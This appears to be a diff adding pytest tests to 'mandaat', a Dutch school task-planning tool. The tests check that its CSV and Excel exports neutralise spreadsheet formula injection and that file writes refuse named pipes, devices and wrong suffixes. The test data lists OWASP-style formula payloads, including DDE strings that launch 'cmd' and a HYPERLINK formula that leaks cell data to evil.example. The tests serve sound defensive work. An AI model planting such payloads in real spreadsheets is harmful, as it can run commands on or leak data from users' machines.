@@ -511,6 +511,74 @@ def test_a_csv_file_that_is_not_utf8_or_too_wide(tmp_path, monkeypatch):
     assert (problem.type, problem.loc) == ("workbook_too_large", ("D1",))
 
 
+# --- formula injection: what mandaat writes, a spreadsheet never runs -----------------------
+
+#: Texts a spreadsheet would run as a formula (the OWASP examples), with each start.
+FORMULAS = ("=1+1", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "'=1+1")
+
+
+@pytest.mark.parametrize("formula", [*FORMULAS, "\t=1+1", "\r=1+1"])
+def test_a_csv_matrix_with_quoted_formulas_reads_back_as_the_names_and_titles(tmp_path,
+                                                                             formula):
+    """A CSV file in the reader's layout, written by mandaat's CSV rule: the quote it puts
+    in front of a formula is taken off again, by the library, ``check`` and ``import``."""
+    from mandaat._formula import csv_line
+
+    rows = [["Taak", "Soort taak", "Anna Jansen (schoolleider)", f"{formula} (leraar)"],
+            [formula, "schoolanalyse", "A", "R 20"]]
+    path = tmp_path / "taken.csv"
+    path.write_bytes("".join(csv_line(r) for r in rows).encode("utf-8"))
+    written = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline=""),
+                              delimiter=";"))
+    assert written[0][3] == f"'{formula} (leraar)" and written[1][0] == f"'{formula}"
+    school = W.read_csv(path)
+    # a heading's name is read without the spaces around it (so a tab or CR in front goes)
+    assert [p.name for p in school.people] == ["Anna Jansen", formula.strip()]
+    assert [t.title for t in school.tasks] == [formula]
+    from tests.cli.test_cli import run
+
+    code, out, err = run("check", str(path), "--format", "json")
+    assert code in (0, 1) and err == "" and json.loads(out)["school"] == "taken"
+    code, out, err = run("import", str(path))
+    assert (code, err) == (0, "")
+    back = yaml.safe_load(out)
+    assert [p["name"] for p in back["people"]] == ["Anna Jansen", formula.strip()]
+    assert [t["title"] for t in back["tasks"]] == [formula]
+
+
+def test_a_quote_typed_in_front_of_other_text_stays(tmp_path):
+    path = write_csv(tmp_path / "taken.csv", [
+        ["Taak", "Soort taak", "Anna Jansen (schoolleider)", "'Tom (leraar)"],
+        ["'s Morgens", "schoolanalyse", "A", "R 20"]], delimiter=";")
+    school = W.read_csv(path)
+    assert [p.name for p in school.people] == ["Anna Jansen", "'Tom"]
+    assert school.tasks[0].title == "'s Morgens"
+
+
+def test_an_exported_workbook_holds_no_formula_whatever_the_names(tmp_path):
+    """Every text is written as a string cell (data type 's'), so a name that starts with
+    '=' stays a name in Excel; only the drop-down lists of the template are formulas."""
+    data = copy.deepcopy(BASE)
+    people = {p["id"]: p for p in data["people"]}
+    for person, formula in zip(people.values(), FORMULAS):
+        person["name"] = formula
+    data["school"]["name"] = FORMULAS[4]
+    data["tasks"][0]["title"] = FORMULAS[2]
+    school = mandaat.load_school(data)
+    path = tmp_path / "w.xlsx"
+    W.write_workbook(school, path)
+    with zipfile.ZipFile(path) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not [n for n in sheets if b"<f>" in z.read(n) or b"<f " in z.read(n)]
+    book = openpyxl.load_workbook(path)
+    assert not [(ws.title, c.coordinate) for ws in book for row in ws.iter_rows() for c in row
+                if c.data_type == "f"]
+    texts = {c.value for ws in book for row in ws.iter_rows() for c in row}
+    assert set(FORMULAS[:len(people)]) <= texts
+    assert W.read_workbook(path) == school
+
+
 # --- the planner layout: activities down, team members across, hours in the cells ----------
 
 
@@ -754,6 +822,35 @@ def test_writing_is_atomic_and_never_over_a_file_unless_asked(tmp_path, monkeypa
     assert sorted(p.name for p in tmp_path.iterdir()) == ["w.xlsx"]  # no temporary file left
 
 
+def test_write_file_writes_only_a_regular_file_with_a_name_that_fits(tmp_path):
+    fifo = tmp_path / "fifo.xlsx"
+    os.mkfifo(fifo)
+    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)   # so that a wrong open cannot hang
+    try:
+        with pytest.raises(MandaatInputError) as info:
+            W.write_template(fifo, overwrite=True)
+        assert [p.type for p in info.value.problems] == ["not_a_regular_file"]
+        assert os.read(reader, 10) == b""
+    finally:
+        os.close(reader)
+    school = mandaat.load_school(BASE)
+    for name, fits in (("school.yaml", "school.xlsx"), ("w.xlsm", "w.xlsx"), ("w", "w.xlsx")):
+        with pytest.raises(MandaatInputError) as info:
+            W.write_workbook(school, tmp_path / name)
+        (problem,) = info.value.problems
+        assert problem.type == "wrong_suffix" and problem.msg.endswith(f"name it '{fits}'")
+    for name, suffix in (("w.xlsx", ".yaml"), ("w.XLTX", ".json"), ("w.csv", ".yaml"),
+                         ("w.xlsm", ".csv")):
+        with pytest.raises(MandaatInputError) as info:
+            W.write_file(tmp_path / name, "x", suffix=suffix)
+        assert info.value.problems[0].type == "wrong_suffix"
+    W.write_file(tmp_path / "m.csv", "x", suffix=".csv")    # CSV text to a .csv name
+    W.write_file(tmp_path / "s.yml", "x", suffix=".yaml")
+    W.write_file(tmp_path / "any.xlsx", "x")                # no suffix given: any name
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["any.xlsx", "fifo.xlsx", "m.csv",
+                                                          "s.yml"]
+
+
 # --- the library's door, and what stays as it was ----------------------------------------------
 
 
@@ -836,6 +933,18 @@ def test_every_workbook_problem_reads_as_dutch(tmp_path):
         "most 1,000,000",
         "'Marieke' is the first name of more than one: 'Marieke Jansen', 'Marieke Bakker'; "
         "write the whole name",
+        "is a named pipe (FIFO), not a regular file; mandaat writes only to a regular file, "
+        "also with --force: choose another name",
+        "is a device, not a regular file; mandaat writes only to a regular file, also with "
+        "--force: choose another name",
+        "mandaat writes a workbook only to a name ending in .xlsx; name it 'w.xlsx'",
+        "is a link to '/tmp/school.yaml'; mandaat writes a workbook only to a name ending in "
+        ".xlsx; name it 'school.xlsx'",
+        "a name ending in .xlsx is read as a workbook, and this is a school file; name it "
+        "'w.yaml'",
+        "a name ending in .csv is read as CSV, and this is JSON; name it 'w.json'",
+        "a name ending in .xlsm is read as a workbook, and this is a web page; name it "
+        "'w.html'",
         "unknown step role 'ib'er' (did you mean 'ib'?)",
     ]
     for msg in samples:
